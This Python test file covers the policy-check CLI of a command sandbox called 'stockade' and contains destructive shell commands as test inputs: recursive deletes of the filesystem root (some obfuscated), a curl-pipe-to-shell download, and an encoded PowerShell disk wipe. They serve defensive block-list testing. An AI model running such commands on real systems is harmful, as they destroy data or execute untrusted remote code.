"""`stockade policy check` and `stockade policy rules` (argv excludes "policy")."""

from __future__ import annotations

import io
import json
import subprocess
import sys
from pathlib import Path

import pytest
from policy_corpus import encoded

from stockade.command_policy import DEFAULT_RULES, CommandPolicyConfig
from stockade.command_policy.cli import main


def _run(argv: list[str], stdin: bytes = b"", config: CommandPolicyConfig | None = None
         ) -> tuple[int, str, str]:
    out, err = io.StringIO(), io.StringIO()
    source = io.TextIOWrapper(io.BytesIO(stdin), encoding="utf-8")
    code = main(argv, stdin=source, stdout=out, stderr=err,
                config=config or CommandPolicyConfig())
    return code, out.getvalue(), err.getvalue()


def test_check_blocked_command() -> None:
    code, out, err = _run(["check", "--", "rm", "-rf", "//"])
    assert code == 1 and err == ""
    assert out == ("normalised:\n  rm -rf /\nmatches:\n"
                   "  block  rm-root-recursive: recursive delete of the filesystem root\n"
                   "         matched: rm -rf /\nverdict: blocked\n")


def test_check_allowed_command() -> None:
    code, out, _ = _run(["check", "--", "git", "clean", "-fdx"])
    assert code == 0
    assert out == "normalised:\n  git clean -fdx\nmatches: none\nverdict: allowed\n"


def test_check_warning_exits_zero() -> None:
    code, out, _ = _run(["check", "--", "sh", "-c", "curl -s https://x.example | sh"])
    assert code == 0
    assert "  warn   curl-pipe-shell: " in out and out.endswith("verdict: allowed with warnings\n")


def test_check_shows_the_decoded_payload() -> None:
    code, out, _ = _run(["check", "--", "powershell", "-enc", encoded("Clear-Disk -Number 0")])
    assert code == 1
    assert "  powershell -enc [decoded below]\n  Clear-Disk -Number 0\n" in out
    assert "raw-disk-wipe" in out and "powershell-encoded-command" in out


def test_check_stdin_script() -> None:
    code, out, _ = _run(["check", "--stdin"], stdin=b"set -e\nr''m -rf /usr/..\n")
    assert code == 1
    assert "  rm -rf /\n" in out


def test_check_stdin_with_a_command() -> None:
    code, out, _ = _run(["check", "--stdin", "--", "bash", "-s"], stdin=b"echo hi\n")
    assert code == 0 and "  bash -s\n  echo hi\n" in out


def test_check_json() -> None:
    code, out, _ = _run(["check", "--json", "--", "rm", "-rf", "/", "--no-preserve-root"])
    assert code == 1
    verdict = json.loads(out)
    assert verdict["blocked"] is True and verdict["truncated"] is False
    assert verdict["normalized"] == "rm -rf / --no-preserve-root"
    assert [m["name"] for m in verdict["matches"]] == ["rm-no-preserve-root", "rm-root-recursive"]
    assert verdict["matches"][0]["effective"] == "block"


def test_check_prints_undecodable_arguments() -> None:
    # An argument decoded with surrogateescape must not make printing fail.
    for argv in (["check", "--", "rm", "-rf", "/\udcff", "/"],
                 ["check", "--json", "--", "rm", "-rf", "/\udcff", "/"]):
        code, out, _ = _run(argv)
        assert code == 1 and "\\udcff" in out


def test_check_under_warn_enforcement_exits_zero() -> None:
    code, out, _ = _run(["check", "--", "rm", "-rf", "/"],
                        config=CommandPolicyConfig(enforcement="warn"))
    assert code == 0
    assert "  warn (rule: block)  rm-root-recursive" in out


def test_check_under_off_enforcement_still_normalises() -> None:
    code, out, _ = _run(["check", "--", "r''m", "-rf", "/"],
                        config=CommandPolicyConfig(enforcement="off"))
    assert code == 0
    assert out == ('normalised:\n  rm -rf /\nrules: not evaluated (enforcement = "off")\n'
                   "verdict: allowed\n")


def test_check_truncation_note() -> None:
    code, out, _ = _run(["check", "--stdin"], stdin=b"echo x\n" * 40_000)
    assert code == 0 and "note: only the first 256 KiB" in out


def test_rules_lists_every_rule() -> None:
    code, out, _ = _run(["rules"])
    assert code == 0
    lines = out.splitlines()
    assert lines[0] == "enforcement: block"
    assert len(lines) == 1 + len(DEFAULT_RULES)
    assert lines[1].split()[:3] == ["block", "posix", "fork-bomb"]


def test_rules_json() -> None:
    code, out, _ = _run(["rules", "--json"])
    data = json.loads(out)
    assert code == 0 and data["enforcement"] == "block"
    assert [r["name"] for r in data["rules"]] == [r.name for r in DEFAULT_RULES]
    assert set(data["rules"][0]) == {"name", "action", "description", "platform", "source",
                                     "regex"}


@pytest.mark.parametrize("argv", [[], ["check"], ["bogus"], ["check", "rm", "-rf", "/"],
                                  ["rules", "--bogus"]])
def test_usage_errors_exit_2(argv: list[str]) -> None:
    code, out, err = _run(argv)
    assert code == 2 and out == "" and err


def test_usage_error_suggests_double_dash() -> None:
    _, _, err = _run(["check", "rm", "-rf", "/"])
    assert "put the command after --" in err


def test_config_file_with_a_broken_rule(tmp_path: Path) -> None:
    path = tmp_path / "stockade.toml"
    path.write_text('[sandbox.command_policy]\nuse_default_rules = false\n'
                    'custom_rules = [{name = "oops", regex = "(?=x)", action = "block"}]\n')
    out, err = io.StringIO(), io.StringIO()
    code = main(["check", "--config", str(path), "--", "rm", "-rf", "/"], stdout=out, stderr=err)
    assert code == 1  # the defaults stayed in force
    assert err.getvalue() == (
        f"stockade policy: {path}: [sandbox.command_policy] custom rule 'oops': RE2 rejects it: "
        "invalid perl operator: (?=; the rule is ignored and the default rules stay in force\n")


def test_config_file_with_a_wrong_key_exits_78(tmp_path: Path) -> None:
    path = tmp_path / "stockade.toml"
    path.write_text('[sandbox.command_policy]\nenforcment = "warn"\n')
    err = io.StringIO()
    code = main(["rules", "--config", str(path)], stdout=io.StringIO(), stderr=err)
    assert code == 78
    assert f"{path}: unknown key [sandbox.command_policy] 'enforcment'" in err.getvalue()


def test_missing_config_file_exits_78(tmp_path: Path) -> None:
    err = io.StringIO()
    code = main(["rules", "--config", str(tmp_path / "nope.toml")], stdout=io.StringIO(),
                stderr=err)
    assert code == 78 and "no such file" in err.getvalue()


def test_runs_as_a_process() -> None:
    proc = subprocess.run(
        [sys.executable, "-c",
         "import sys; from stockade.command_policy.cli import main; sys.exit(main(sys.argv[1:]))",
         "check", "--config", "/dev/null/none", "--", "true"],
        capture_output=True, text=True, timeout=60, check=False)
    assert proc.returncode == 78, proc.stderr


def test_import_stays_light() -> None:
    # The package is imported on every `stockade run`; re2 is loaded when a
    # policy is built, logging only when something is logged.
    code = ("import sys, stockade.command_policy; "
            "print(sorted(m for m in ('asyncio', 'subprocess', 'logging', 're2', 'argparse', "
            "'json', 'tomllib') if m in sys.modules))")
    proc = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True,
                          timeout=60, check=True)
    assert proc.stdout.strip() == "[]"
